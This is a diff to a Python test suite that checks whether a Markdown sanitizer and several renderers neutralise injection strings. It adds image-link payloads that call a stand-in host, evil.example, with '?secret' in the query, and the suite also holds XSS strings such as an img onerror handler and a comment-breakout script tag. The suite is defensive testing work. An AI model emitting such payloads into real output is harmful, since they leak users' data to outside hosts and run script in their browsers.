@@ -235,6 +235,11 @@ ATTACKS = {
     "a picture without a scheme": "![x](//evil.example/pixel.png)",
     "a picture by reference": "![x][a]\n\n[a]: https://evil.example/pixel.png",
     "a picture in a link": "[![x](https://evil.example/a.png)](https://evil.example)",
+    "an escaped bracket in a picture": r"![x\](a.png)](https://evil.example/pixel.png?secret)",
+    "code in a picture": "![x`](a.png)`](https://evil.example/pixel.png?secret)",
+    "code before a picture": "![x`y ![z`](https://evil.example/a.png) ![z](a.png)",
+    "an autolink in a picture": "![x<https://a](a.png)>](https://evil.example/pixel.png?secret)",
+    "a picture by its name alone": "![x]\n\n[x]: https://evil.example/pixel.png",
     "a diagram": '```mermaid\nflowchart\nA@{ img: "https://evil.example/diagram.png" }\n```',
     "an element": "<img src=https://evil.example/element.png onerror=alert(1)>",
     "a comment": "<!-- --!><script>alert(1)</script>",
@@ -249,6 +254,13 @@ def test_an_attack_on_the_answer_is_harmless(attack: str, renderer: str) -> None
         assert_harmless_answer(RENDERERS[renderer](text))
 
     assert_harmless_answer(RENDERERS[renderer](defused(text)))
+
+
+def test_a_formula_in_a_picture_ends_before_it() -> None:
+    """JupyterLab takes formulas out before it reads the Markdown."""
+    text = "![x $](a.png)$](https://evil.example/pixel.png?secret)"
+
+    assert "![" not in defused(text)
 
 
 @pytest.mark.parametrize("renderer", RENDERERS)
